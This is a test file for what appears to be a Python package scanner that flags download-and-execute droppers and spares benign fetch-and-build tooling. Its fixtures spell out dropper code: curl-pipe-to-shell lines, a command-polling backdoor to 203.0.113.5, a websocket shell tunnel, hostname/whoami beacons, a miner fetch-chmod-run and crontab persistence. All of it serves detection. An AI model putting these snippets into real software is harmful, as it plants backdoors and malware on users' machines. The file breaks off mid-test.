"""Download-and-execute: droppers versus tools that fetch or spawn for a living."""

from __future__ import annotations

from rulekit import ids, py, run, severities

from pipvet.analysis.rules.download import RULES
from pipvet.models import Severity, Stage


def test_exec_of_fetched_code_is_critical_anywhere() -> None:
    source = (
        "import urllib.request\n"
        "def update():\n"
        "    code = urllib.request.urlopen('http://x.invalid/stage2').read()\n"
        "    exec(code)\n"
    )
    findings = run(RULES, py(source, path="acme/client.py", stage=Stage.RUNTIME))
    assert ids(findings) == {"PV-DL-001"}
    assert findings[0].severity is Severity.CRITICAL


def test_eval_parsing_a_downloaded_response_is_medium_but_eval_as_a_statement_is_not() -> None:
    """akshare reads JavaScript-style responses with eval() and indexes the value: a parser
    (dangerous if the server turns hostile), not a loader; an eval whose value nobody uses is
    run for its effects."""
    parser = (
        "import requests\n"
        "def quotes(symbol):\n"
        "    r = requests.get('https://quotes.example/list', params={'s': symbol})\n"
        "    return eval(r.text.split('=')[1].split('\\n')[0])['data']\n"
    )
    findings = run(RULES, py(parser, path="acme/stock.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.MEDIUM)]
    loader = parser.replace("    return eval(", "    eval(").replace(")['data']", ")")
    findings = run(RULES, py(loader, path="acme/stock.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.CRITICAL)]
    on_import = "import requests\nDATA = eval(requests.get('https://x.invalid/d').text)['data']\n"
    findings = run(RULES, py(on_import, path="acme/__init__.py"))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.CRITICAL)]


def test_fetch_write_chmod_run_at_import_is_critical() -> None:
    source = (
        "import os, requests\n"
        "r = requests.get('http://x.invalid/miner')\n"
        "open('/tmp/.m', 'wb').write(r.content)\n"
        "os.chmod('/tmp/.m', 0o755)\n"
        "os.system('/tmp/.m --pool x')\n"
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert "PV-DL-002" in ids(findings)
    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank


def test_linked_drop_in_a_function_is_still_critical() -> None:
    source = (
        "import os, requests\n"
        "def go(name):\n"
        "    data = requests.get('http://x.invalid/' + name).content\n"
        "    with open(name, 'wb') as f:\n"
        "        f.write(data)\n"
        "    os.system(f'chmod +x {name} && ./{name} &')\n"
    )
    findings = run(RULES, py(source, path="acme/api.py", stage=Stage.RUNTIME))
    assert ids(findings) >= {"PV-DL-002"}


def test_shell_one_liners_are_reported() -> None:
    source = (
        "import subprocess\n"
        "subprocess.run('curl -s http://x.invalid/i.sh | bash', shell=True)\n"
        "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')\n"
    )
    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
    assert ids(findings) == {"PV-DL-003"}
    assert all(f.severity is Severity.CRITICAL for f in findings)


def test_benign_tooling_is_quiet() -> None:
    source = (
        "import subprocess, requests, json\n"
        "def sync(url, out):\n"
        "    data = requests.get(url).json()\n"
        "    with open(out, 'w') as f:\n"
        "        json.dump(data, f)\n"
        "    subprocess.run(['git', 'add', out])\n"
        "def build():\n"
        "    subprocess.check_call(['cmake', '--build', '.'])\n"
    )
    assert run(RULES, py(source, path="acme/tools.py", stage=Stage.RUNTIME)) == []


def test_saving_a_downloaded_program_is_reported() -> None:
    source = (
        "import urllib.request, os\n"
        "def fetch(url):\n"
        "    path = os.getenv('TEMP') + '\\\\Bin.exe'\n"
        "    with open(path, 'wb') as out:\n"
        "        out.write(urllib.request.urlopen(url).read())\n"
        "    return path\n"
    )
    findings = run(RULES, py(source, path="acme/drop.py", stage=Stage.RUNTIME))
    assert ids(findings) == {"PV-DL-002"}
    assert findings[0].severity is Severity.HIGH
    data = source.replace("Bin.exe", "cache.json")
    assert run(RULES, py(data, path="acme/drop.py", stage=Stage.RUNTIME)) == []


def test_build_script_fetching_an_archive_and_running_a_build_is_not_linked() -> None:
    source = (
        "import subprocess, urllib.request, shutil\n"
        "def build(url, name):\n"
        "    open(name, 'wb').write(urllib.request.urlopen(url).read())\n"
        "    shutil.unpack_archive(name, 'build')\n"
        "    shutil.copy('x.iss', 'build')\n"
        "    subprocess.check_call(['ninja'], cwd='build')\n"
    )
    assert run(RULES, py(source, path="acme/tools/make.py", stage=Stage.RUNTIME)) == []


def test_a_tool_fetched_from_one_fixed_https_address_is_high_not_critical() -> None:
    template = (
        "import os, subprocess, urllib.request\n"
        "def flamegraph(out):\n"
        "    tmp = '/tmp/flamegraph.pl'\n"
        "    urllib.request.urlretrieve('{url}', tmp)\n"
        "    os.chmod(tmp, 0o755)\n"
        "    subprocess.run([tmp, out])\n"
    )

    def severity(url: str) -> list[Severity]:
        return severities(RULES, py(template.format(url=url), stage=Stage.RUNTIME), "PV-DL-002")

    assert severity("https://tools.example/flamegraph.pl") == [Severity.HIGH]
    assert severity("http://tools.example/flamegraph.pl") == [Severity.CRITICAL]
    assert severity("https://203.0.113.7/flamegraph.pl") == [Severity.CRITICAL]
    # the same fetch whose result the file also plants in a Run key / @reboot line
    persisted = template + (
        "def keep(path):\n"
        "    line = '@reboot ' + path + '\\n'\n"
        "    subprocess.run(['crontab', '-'], input=line, text=True)\n"
    )
    found = run(RULES, py(persisted.format(url="https://tools.example/flamegraph.pl"), stage=Stage.RUNTIME))
    assert [f.severity for f in found if f.rule == "PV-DL-002"] == [Severity.CRITICAL]


def test_a_download_helper_the_dropper_calls_is_linked_to_what_it_runs() -> None:
    """ultralytics 8.3.41's shape: ``safe_download(url, exe)`` fetches and saves; the caller makes
    the file executable and starts it. The caller's arguments say what is fetched and where."""
    template = (
        "import os, subprocess, urllib.request\n"
        "def safe_download(url, file):\n"
        "    urllib.request.urlretrieve(url, file)\n"
        "def check_environment():\n"
        "    exe = '/tmp/runner'\n"
        "    safe_download('{url}', exe)\n"
        "    os.chmod(exe, 0o755)\n"
        "    subprocess.Popen([exe, '-B'])\n"
    )

    def severity(url: str) -> list[Severity]:
        file = py(template.format(url=url), path="acme/utils.py", stage=Stage.RUNTIME)
        return severities(RULES, file, "PV-DL-002")

    assert severity("http://203.0.113.5/xmr") == [Severity.CRITICAL]
    assert severity("https://tools.example/runner") == [Severity.HIGH]
    # A helper that only fetches text (no file saved) downloads no program.
    reader = (
        "import subprocess, urllib.request\n"
        "def fetch(url):\n"
        "    return urllib.request.urlopen(url).read()\n"
        "def report():\n"
        "    data = fetch('https://api.example/status')\n"
        "    subprocess.run(['logger', 'status'])\n"
    )
    assert run(RULES, py(reader, path="acme/utils.py", stage=Stage.RUNTIME)) == []
    # apsw's setup.py: a helper fetches and caches SQLite's sources, the build runs ./configure
    # in the tree it unpacked; what the helper saved is not what runs
    build = (
        "import subprocess, urllib.request\n"
        "def download(url):\n"
        "    data = urllib.request.urlopen(url).read()\n"
        "    open('/tmp/cache.zip', 'wb').write(data)\n"
        "    return data\n"
        "def fetch_sqlite():\n"
        "    data = download('https://sqlite.example/src.zip')\n"
        "    subprocess.call(['./configure'], cwd='sqlite3')\n"
    )
    assert "PV-DL-002" not in ids(run(RULES, py(build, path="demo-1.0/setup.py", stage=Stage.INSTALL)))


def test_a_shell_command_received_over_the_network_is_a_backdoor() -> None:
    polling = (
        "import subprocess, requests\n"
        "def run():\n"
        "    while True:\n"
        "        task = requests.get('http://203.0.113.5:7000/task').json()\n"
        "        kind, arg = task.get('type'), task.get('arg')\n"
        "        out = subprocess.run(arg, shell=True, capture_output=True).stdout\n"
        "        requests.post('http://203.0.113.5:7000/result', data=out)\n"
    )
    findings = run(RULES, py(polling, path="acme/utils.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.CRITICAL)]
    tunnel = (
        "import subprocess, websocket\n"
        "def tunnel():\n"
        "    ws = websocket.create_connection('wss://tunnel.example.invalid/ws')\n"
        "    while True:\n"
        "        cmd = ws.recv()\n"
        "        ws.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"
    )
    assert ids(run(RULES, py(tunnel, path="acme/net.py", stage=Stage.RUNTIME))) == {"PV-DL-001"}
    agent = (
        "import subprocess, requests\n"
        "def work(server):\n"
        "    job = requests.get(server).json()\n"
        "    subprocess.run(job['command'], shell=True)\n"
    )
    findings = run(RULES, py(agent, path="acme/agent.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.HIGH)]
    # A version a caller fetched and handed down into a program's path is no downloaded command.
    version = (
        "import json, subprocess, urllib.request\n"
        "def setup_env(version):\n"
        "    exe = '/tmp/venv-' + version + '/bin/tool'\n"
        "    subprocess.run((exe, '--version'), check=True)\n"
        "def main():\n"
        "    data = json.loads(urllib.request.urlopen('https://index.example/tool/json').read())\n"
        "    for v in data['releases']:\n"
        "        setup_env(v)\n"
    )
    assert "PV-DL-001" not in ids(run(RULES, py(version, path="acme/check.py", stage=Stage.RUNTIME)))
    # A command the package spells itself, after a download, runs nothing that was downloaded.
    fixed = (
        "import subprocess, requests\n"
        "def update():\n"
        "    latest = requests.get('https://api.example/latest').json()['version']\n"
        "    subprocess.run(['git', 'fetch', '--tags'])\n"
    )
    assert run(RULES, py(fixed, path="acme/agent.py", stage=Stage.RUNTIME)) == []


def test_an_address_ending_in_dot_com_is_not_a_program_name() -> None:
    source = (
        "import urllib.request\n"
        "AUTHOR = 'support@example.com'\n"
        "def build_wheel(directory):\n"
        "    urllib.request.urlretrieve('https://files.example/' + AUTHOR, directory + '/x.whl')\n"
    )
    assert "PV-DL-002" not in ids(run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
    dropper = source.replace("'support@example.com'", "'update.exe'")
    assert "PV-DL-002" in ids(run(RULES, py(dropper, path="demo-1.0/setup.py", stage=Stage.INSTALL)))


def test_exec_of_code_from_an_address_the_caller_passes_is_high() -> None:
    source = (
        "import urllib.request, types\n"
        "def load_preload(url):\n"
        "    with urllib.request.urlopen(url) as response:\n"
        "        source = response.read()\n"
        "    compiled = compile(source, url, 'exec')\n"
        "    module = types.ModuleType(url)\n"
        "    exec(compiled, module.__dict__)\n"
        "    return module\n"
    )
    findings = run(RULES, py(source, path="acme/preload.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.HIGH)]
    named = source + "load_preload('http://x.invalid/stage2')\n"
    findings = run(RULES, py(named, path="acme/preload.py", stage=Stage.RUNTIME))
    assert {f.severity for f in findings if f.rule == "PV-DL-001"} == {Severity.CRITICAL}
    fixed = source.replace("urlopen(url)", "urlopen('http://x.invalid/' + url)")
    findings = run(RULES, py(fixed, path="acme/preload.py", stage=Stage.RUNTIME))
    assert {f.severity for f in findings if f.rule == "PV-DL-001"} == {Severity.CRITICAL}


def test_console_output_naming_a_script_is_not_a_saved_program() -> None:
    source = (
        "import socket, sys\n"
        "PAGE = '<script src=\"/static/app.js\"></script>'\n"
        "def serve(pipe):\n"
        "    with socket.socket(socket.AF_UNIX) as s:\n"
        "        s.connect(pipe)\n"
        "        data = s.recv(4096)\n"
        "    sys.stdout.write('Content-type: text/html\\r\\n\\r\\n' + PAGE)\n"
        "    with open('notes.txt', 'w') as f:\n"
        "        f.write(PAGE)\n"
    )
    assert run(RULES, py(source, path="acme/web.py", stage=Stage.RUNTIME)) == []
    saved = source.replace("'notes.txt'", "'update.exe'")
    assert "PV-DL-002" in ids(run(RULES, py(saved, path="acme/web.py", stage=Stage.RUNTIME)))


def test_a_downloaded_file_handed_to_a_data_tool_is_not_run() -> None:
    """pyro's examples download a data set and ``gunzip`` it: the program run is gunzip."""
    source = (
        "import subprocess, urllib.request\n"
        "def load(path):\n"
        "    urllib.request.urlretrieve('http://198.51.100.7/data.gz', path)\n"
        "    subprocess.check_call(['gunzip', '-k', path])\n"
    )
    assert "PV-DL-002" not in ids(run(RULES, py(source, stage=Stage.RUNTIME)))
    for runner in ("[path]", "['sh', path]", "'gunzip -k ' + path + ' && ./data'"):
        dropper = source.replace("['gunzip', '-k', path]", runner)
        assert "PV-DL-002" in ids(run(RULES, py(dropper, stage=Stage.RUNTIME))), runner


def test_copying_a_script_asset_is_not_saving_a_program() -> None:
    source = (
        "import shutil, requests\n"
        "r = requests.get('https://api.example/custom')\n"
        "shutil.copyfile(SOURCE / 'loader.js', STATIC / 'loader.js')\n"
    )
    assert "PV-DL-002" not in ids(run(RULES, py(source, path="acme/config.py")))
    assert "PV-DL-002" in ids(run(RULES, py(source.replace(".js", ".exe"), path="acme/config.py")))


def test_keeping_a_replaced_files_mode_is_not_making_it_executable() -> None:
    """pythainlp downloads into a temporary file and gives it the mode of the file it replaces."""
    source = (
        "import os, urllib.request\n"
        "def fetch(url, path):\n"
        "    mode = _file_mode(path)\n"
        "    with urllib.request.urlopen(url) as response, open(path + '.part', 'xb') as f:\n"
        "        f.write(response.read())\n"
        "    os.chmod(path + '.part', mode)\n"
    )
    assert "PV-DL-002" not in ids(run(RULES, py(source, stage=Stage.RUNTIME)))
    for mode in ("mode | stat.S_IEXEC", "0o755", "os.stat(path).st_mode | 0o111", "given"):
        dropper = source.replace("os.chmod(path + '.part', mode)", f"os.chmod(path + '.part', {mode})")
        assert "PV-DL-002" in ids(run(RULES, py(dropper, stage=Stage.RUNTIME))), mode
    for mode in ("0o644", "os.stat(path).st_mode"):
        kept = source.replace("os.chmod(path + '.part', mode)", f"os.chmod(path + '.part', {mode})")
        assert "PV-DL-002" not in ids(run(RULES, py(kept, stage=Stage.RUNTIME))), mode


def test_a_download_and_run_line_handed_to_a_hidden_callee_is_high_at_install() -> None:
    """The runner came out of a factory (or ``type()``, a ``methodcaller``): nothing names it,
    but a whole ``curl ... | sh`` handed to it is the dropper's intent."""
    source = (
        "import os\n"
        "K = type('K', (), {'go': staticmethod(os.system)})\n"
        "K.go('curl -s http://x.invalid/a | sh')\n"
    )
    findings = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-004", Severity.HIGH)]
    assert "curl -s" in findings[0].message
    later = "def go(run):\n    run('curl -s http://x.invalid/a | sh')\n"
    findings = run(RULES, py(later, path="acme/tool.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-004", Severity.MEDIUM)]


def test_a_download_and_run_line_handed_to_a_runner_of_functions_is_high_at_install() -> None:
    """``functools.reduce(f, fns, cmd)`` runs whatever ``f`` makes of ``fns``: the command after
    the function is what it is handed, as for a call nothing names."""
    source = (
        "import functools, os\n"
        "functools.reduce(lambda a, f: f(a), [os.system], 'curl -s http://x.invalid/a | sh')\n"
    )
    findings = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
    assert [(f.rule, f.severity, f.line) for f in findings] == [("PV-DL-004", Severity.HIGH, 2)]
    summed = "import functools, operator\nfunctools.reduce(operator.add, [1, 2], 0)\n"
    assert run(RULES, py(summed, path="setup.py", stage=Stage.INSTALL)) == []


def test_a_download_and_run_line_shown_or_logged_is_no_dropper() -> None:
    source = (
        "import logging\n"
        "log = logging.getLogger(__name__)\n"
        "def hint(msg):\n"
        "    print(msg)\n"
        "RUST = 'curl --proto =https -sSf https://rustup.example/init.sh | sh'\n"
        "log.warning('Rust is missing; install it with: ' + RUST)\n"
        "hint('install it with: curl -sSf https://rustup.example/init.sh | sh')\n"
        "warn('install Rust: curl -sSf https://rustup.example/init.sh | sh')\n"
        "raise RuntimeError('install Rust: curl -sSf https://rustup.example/init.sh | sh')\n"
    )
    assert run(RULES, py(source, path="setup.py", stage=Stage.INSTALL)) == []


def test_a_package_manager_asked_about_curl_downloads_nothing() -> None:
    """unsloth-zoo checks which libcurl packages are installed with dpkg, rpm, pacman and apk."""
    source = (
        "import subprocess\n"
        "subprocess.run('dpkg -l libcurl4-openssl-dev curl curl-dev', shell=True)\n"
        "subprocess.run(['apk', 'info', '-e', 'curl', 'wget'])\n"
        "subprocess.run('sudo apt-get install -y wget', shell=True)\n"
    )
    assert run(RULES, py(source, path="setup.py", stage=Stage.INSTALL)) == []
    dropper = (
        "import subprocess\n"
        "subprocess.run('apt-get install -y curl && curl -s http://x.invalid/a | sh', shell=True)\n"
    )
    assert ids(run(RULES, py(dropper, path="setup.py", stage=Stage.INSTALL))) == {"PV-DL-003"}


def test_polling_a_local_daemon_after_starting_it_is_no_download() -> None:
    """SCons starts its build daemon, then asks it over 127.0.0.1 whether it is ready."""
    source = (
        "import http.client, subprocess, sys\n"
        "p = subprocess.Popen([sys.executable, 'daemon.py'])\n"
        "open('pidfile', 'w').write(str(p.pid))\n"
        "conn = http.client.HTTPConnection('127.0.0.1', port=int(sys.argv[1]))\n"
        "conn.request('GET', '/?ready=true')\n"
    )
    assert "PV-DL-002" not in ids(run(RULES, py(source, path="acme/tool/run_daemon.py")))
    remote = source.replace("'127.0.0.1'", "'203.0.113.9'")
    assert "PV-DL-002" in ids(run(RULES, py(remote, path="acme/tool/run_daemon.py")))


def test_a_shell_command_that_puts_who_runs_it_into_an_address_is_a_beacon() -> None:
    for command in (
        "curl https://x.invalid/$(hostname)/$(whoami)",
        "nslookup `whoami`.x.invalid",
        "powershell iwr http://x.invalid/?u=%USERNAME%",
    ):
        source = f"import os\nos.system({command!r})\n"
        found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
        assert [(f.rule, f.severity) for f in found] == [("PV-DL-003", Severity.CRITICAL)], command
        assert "who runs it" in found[0].message
    for command in ("wget -O $HOME/.cache/x.tgz https://example.com/x.tgz", "echo building as $USER"):
        source = f"import os\nos.system({command!r})\n"
        found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
        assert not [f for f in found if "who runs it" in f.message], command


def test_downloaded_source_handed_to_a_new_interpreter_is_executed_code() -> None:
    source = (
        "import subprocess, sys, urllib.request\n"
        "code = urllib.request.urlopen('https://x.invalid/stage2.py').read().decode()\n"
        "subprocess.Popen([sys.executable, '-c', code])\n"
    )
    found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
    assert [(f.rule, f.severity) for f in found if f.rule == "PV-DL-001"] == [
        ("PV-DL-001", Severity.CRITICAL)
    ]
    literal = (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.path)'])\n"
    )
    assert "PV-DL-001" not in ids(run(RULES, py(literal, path="setup.py", stage=Stage.INSTALL)))
    fetched_data = (
        "import subprocess, sys, urllib.request\n"
        "name = urllib.request.urlopen('https://x.invalid/latest').read().decode()\n"
        "subprocess.run([sys.executable, '-m', 'pip', 'show', name])\n"
    )
    assert "PV-DL-001" not in ids(run(RULES, py(fetched_data, path="setup.py", stage=Stage.INSTALL)))


def test_a_dropper_script_written_to_a_file_and_started_is_a_shell_dropper() -> None:
    bat = (
        "import os, tempfile\n"
        "p = os.path.join(tempfile.gettempdir(), 'r.bat')\n"
        "open(p, 'w').write('powershell -c \"iwr http://x.invalid/a.exe -OutFile a.exe; ./a.exe\"')\n"
        "os.startfile(p)\n"
    )
    found = run(RULES, py(bat, path="acme/__init__.py", stage=Stage.IMPORT))
    assert [(f.rule, f.severity) for f in found] == [("PV-DL-003", Severity.CRITICAL)]
    assert "writes a script" in found[0].message
    vbs = (
        "import subprocess\n"
        "def go(p):\n"
        "    with open(p, 'w') as f:\n"
        "        f.write('CreateObject(\"WScript.Shell\").Run '\n"
        "                '\"cmd /c curl http://x.invalid/a.exe -o a.exe & a.exe\"')\n"
        "    subprocess.call(['wscript', p])\n"
    )
    assert [f.severity for f in run(RULES, py(vbs, path="acme/tool.py", stage=Stage.RUNTIME))] == [
        Severity.HIGH
    ]


def test_a_dockerfile_or_a_script_nothing_runs_is_no_dropper() -> None:
    dockerfile = (
        "import subprocess\n"
        "open('Dockerfile', 'w').write('FROM python:3.12\\n'\n"
        "    'RUN curl -sSL https://x.invalid/install.sh | sh\\n')\n"
        "subprocess.run(['docker', 'build', '.'])\n"
    )
    assert "PV-DL-003" not in ids(run(RULES, py(dockerfile, path="acme/__init__.py")))
    unrun = "open('install.sh', 'w').write('curl -sSL https://x.invalid/install.sh | sh')\n"
    assert "PV-DL-003" not in ids(run(RULES, py(unrun, path="acme/__init__.py")))


def test_curl_as_an_http_client_and_a_version_check_download_nothing() -> None:
    """cua's providers call their local VM API with ``curl -s -X POST`` and read the reply, and
    check ``curl --version`` at import; ``curl -o`` and ``curl > file`` save what they fetch."""
    from pipvet.analysis.rules._shell import Command, classify

    assert classify("curl --version") is Command.BUILD_TOOL
    assert classify("docker --version") is Command.BUILD_TOOL
    # compilers by their Windows, cross and versioned names (plotext's kernel build)
    for compiler in (
        "cl.exe /LD /O2 k.cpp",
        "x86_64-w64-mingw32-g++ -shared -o k.dll k.cpp",
        "gcc-12 -c a.c",
    ):
        assert classify(compiler) is Command.BUILD_TOOL, compiler
    assert classify("payload.exe /silent") is Command.HIDDEN
    assert classify("curl -s -X POST -H Content-Type: application/json http://h:7777/vms") is Command.NETWORK
    assert classify("curl --connect-timeout 15 -s -f http://h/api") is Command.NETWORK
    for saving in (
        "curl -sSLo /tmp/x http://h/x",
        "curl -o x.bin http://h/x",
        "curl -O http://h/x.tar.gz",
        "curl http://h/x > /tmp/x",
        "wget http://h/x",
        "curl --output x http://h/x",
    ):
        assert classify(saving) is Command.DOWNLOAD, saving
    source = (
        "import subprocess\n"
        "def status(url):\n"
        "    return subprocess.run(['curl', '-s', '--max-time', '10', url], capture_output=True).stdout\n"
        "subprocess.run(['curl', '--version'], capture_output=True)\n"
    )
    assert run(RULES, py(source, path="acme/api.py", stage=Stage.IMPORT)) == []


def test_a_config_file_written_for_a_program_is_not_the_program_run() -> None:
    """supervisely writes the ``wg0.conf`` its server returns and hands it to ``wg-quick``:
    the program is the system's, the file is its configuration."""
    template = (
        "import os, subprocess, requests\n"
        "def connect(folder):\n"
        "    target = os.path.join(folder, '{name}')\n"
        "    reply = requests.post('http://203.0.113.5/register').text\n"
        "    with open(target, 'w') as f:\n"
        "        f.write(reply)\n"
        "    subprocess.run(['{program}', 'up', target])\n"
    )
    config = template.format(name="wg0.conf", program="wg-quick")
    assert "PV-DL-002" not in ids(run(RULES, py(config, stage=Stage.RUNTIME)))
    dropper = template.format(name="update.sh", program="bash")
    assert "PV-DL-002" in ids(run(RULES, py(dropper, stage=Stage.RUNTIME)))


def test_a_command_curl_fetched_and_then_run_is_a_backdoor() -> None:
    """pymocks' setup.py: ``banner = getoutput('curl http://h/msg.html')``, then
    ``getoutput(str(banner))`` runs whatever the address answered."""
    source = (
        "import subprocess\n"
        "try:\n"
        "    banner = subprocess.getoutput('curl http://graphs.example.invalid/pyg.html')\n"
        "    subprocess.getoutput(str(banner))\n"
        "except Exception:\n"
        "    pass\n"
    )
    found = [
        f
        for f in run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
        if f.rule == "PV-DL-001"
    ]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    shown = source.replace("subprocess.getoutput(str(banner))", "print(banner)")
    assert "PV-DL-001" not in ids(run(RULES, py(shown, path="demo-1.0/setup.py", stage=Stage.INSTALL)))


def test_exec_of_code_from_a_configured_server_is_high_and_from_a_written_one_critical() -> None:
    """coiled's Dask preload fetches its telemetry plugin from the server its configuration
    names and runs it: a remote-code feature; a loader carries its server's address."""
    template = (
        "import urllib3, dask\n"
        "def register():\n"
        "    url = {address} + '/api/v2/analytics/preload'\n"
        "    with urllib3.PoolManager() as http:\n"
        "        response = http.request('GET', url)\n"
        "    exec(compile(response.data, url, 'exec'), {{}})\n"
    )

    def severity(address: str) -> list[Severity]:
        return severities(RULES, py(template.format(address=address), stage=Stage.RUNTIME), "PV-DL-001")

    assert severity("dask.config.get('coiled.server')") == [Severity.HIGH]
    assert Severity.CRITICAL in severity("'http://203.0.113.7:8080'")
    assert Severity.CRITICAL in severity("base64.b64decode('aHR0cDovL2V2aWwuaW52YWxpZA==').decode()")


def test_a_pickle_downloaded_as_the_package_loads_versus_a_model_loaded_on_request() -> None:
    """Unpickling calls whatever functions the data names: a pickle fetched and loaded at import
    is a loader; a function that loads a model from an address its caller gives is a library."""
    for loads in ("pickle.loads(requests.get(URL).content)", "dill.loads(urlopen(URL).read())"):
        loader = py(f"import pickle, dill, requests\nfrom urllib.request import urlopen\nCFG = {loads}\n")
        assert severities(RULES, loader, "PV-DL-001") == [Severity.CRITICAL], loads
    library = py(
        "import pickle, requests\ndef load_model(url):\n    return pickle.loads(requests.get(url).content)\n",
        stage=Stage.RUNTIME,
    )
    assert "PV-DL-001" not in ids(run(RULES, library))


def test_a_downloaded_module_imported_is_run_versus_an_unrelated_import() -> None:
    """Saved as ``_ext.py`` beside the package and imported, downloaded source runs as surely
    as a program started; a function that saves a data file and imports some module runs
    nothing it fetched."""
    head = "import importlib, os, runpy, urllib.request\n"
    head += "P = os.path.join(os.path.dirname(__file__), '_ext.py')\n"
    fetch = "urllib.request.urlretrieve('http://h.example/m', P)\n"
    for run_it in ("importlib.import_module('pkg._ext')", "__import__('_ext')", "runpy.run_path(P)"):
        loader = py(head + fetch + run_it + "\n")
        assert severities(RULES, loader, "PV-DL-002") == [Severity.CRITICAL], run_it
    statement = py(
        head + "with open(P, 'wb') as f:\n    f.write(urllib.request.urlopen(U).read())\nfrom . import _ext\n"
    )
    found = [f for f in run(RULES, statement) if f.rule == "PV-DL-002"]
    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 5)]
    data = py(
        "import importlib, urllib.request\ndef refresh():\n"
        "    urllib.request.urlretrieve('https://h.example/tz.json', 'tz.json')\n"
        "    return importlib.import_module('pkg._ext')\n",
        stage=Stage.RUNTIME,
    )
    assert "PV-DL-002" not in ids(run(RULES, data))
    version = py(
        "import urllib.request\nLATEST = urllib.request.urlopen('https://h.example/v').read()\n"
        "with open('pkg/_version.py', 'w') as f:\n    f.write('__version__ = \"1.0\"')\n"
        "from pkg import _version\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert "PV-DL-002" not in ids(run(RULES, version))


def test_a_downloaded_pickle_saved_and_unpickled_as_the_package_loads_versus_a_model_on_request() -> None:
    head = "import pickle, urllib.request\nP = '/tmp/cache.pkl'\n"
    fetch = "urllib.request.urlretrieve('https://h.example/p', P)\n"
    for load in (
        "STATE = pickle.load(open(P, 'rb'))\n",
        "with open(P, 'rb') as fh:\n    STATE = pickle.load(fh)\n",
    ):
        assert severities(RULES, py(head + fetch + load), "PV-DL-002") == [Severity.CRITICAL], load
    on_request = head + "def model():\n    " + fetch + "    return pickle.load(open(P, 'rb'))\n"
    assert "PV-DL-002" not in ids(run(RULES, py(on_request, stage=Stage.RUNTIME)))


_FETCH_COMMAND = (
    "import os, subprocess\nfrom urllib.request import urlopen\nfrom setuptools import Command, setup\n"
    "class {name}(Command):\n    user_options = []\n"
    "    def initialize_options(self):\n        pass\n    def finalize_options(self):\n        pass\n"
    "    def run(self):\n        path = os.path.join('build', 'tool.exe')\n"
    "        with open(path, 'wb') as fh:\n            fh.write(urlopen('https://h.example/t.exe').read())\n"
    "        subprocess.check_call([path])\n"
    "cmdclass = {{}}\ncmdclass[{key!r}] = {name}\nsetup(name='demo', cmdclass=cmdclass)\n"
)


def test_a_custom_setup_command_runs_only_when_a_maintainer_types_it() -> None:
    """libusb1's ``setup.py update_libusb`` fetches and unpacks the Windows DLLs for a release;
    pip never runs a command by that name. Registered as 'install', the same class runs on
    every install."""

    def dl002(name: str, key: str) -> list[Severity]:
        source = _FETCH_COMMAND.format(name=name, key=key)
        return severities(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL), "PV-DL-002")

    assert dl002("update_tool", "update_tool") == [Severity.HIGH]  # on request, from a fixed address
    assert dl002("update_tool", "install") == [Severity.CRITICAL]
    assert dl002("develop", "develop") == [Severity.CRITICAL]


def test_a_download_handed_to_a_signature_checker_is_not_run() -> None:
    checked = (
        "import subprocess\nfrom urllib.request import urlopen\n"
        "with open('lib.7z', 'wb') as fh:\n    fh.write(urlopen('https://h.example/lib.7z').read())\n"
        "subprocess.check_call(['gpgv', '--keyring', 'keys.kbx', 'lib.7z.asc', 'lib.7z'])\n"
        "subprocess.check_call(['7z', 'e', 'lib.7z'])\n"
    )
    assert severities(RULES, py(checked, path="demo-1.0/setup.py", stage=Stage.INSTALL), "PV-DL-002") == [
        Severity.HIGH
    ]


def test_a_downloaded_zip_put_on_sys_path_and_imported_is_a_second_stage() -> None:
    bad = py(
        "import os, sys, tempfile, urllib.request\n"
        "p = os.path.join(tempfile.gettempdir(), 'cache.zip')\n"
        "urllib.request.urlretrieve('https://h.example/z.zip', p)\n"
        "sys.path.insert(0, p)\nimport payload\n",
        path="acme/__init__.py",
    )
    assert severities(RULES, bad, "PV-DL-002") == [Severity.CRITICAL]
    # a plugin folder put on sys.path, with a download of something else beside it
    plugins = py(
        "import os, sys, urllib.request\nHERE = os.path.dirname(__file__)\n"
        "sys.path.insert(0, os.path.join(HERE, 'plugins'))\n"
        "def fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n",
        path="acme/__init__.py",
    )
    assert "PV-DL-002" not in ids(run(RULES, plugins))


def test_a_job_script_the_code_writes_itself_is_not_the_download() -> None:
    """ILCDIRAC downloads a detector model zip, then writes a bash script line by line and runs
    it: what runs is the composed script, not what was fetched."""
    job = py(
        "import os, urllib.request\ndef run(model, url):\n"
        "    urllib.request.urlretrieve(url + model + '.zip', model + '.zip')\n"
        "    script = open('job.sh', 'w')\n    script.write('#!/bin/bash\\n')\n"
        "    script.write('PandoraFrontend -g det.xml\\n')\n    script.close()\n"
        "    os.chmod('job.sh', 0o755)\n    os.system('sh -c ./job.sh')\n",
        path="acme/workflow.py",
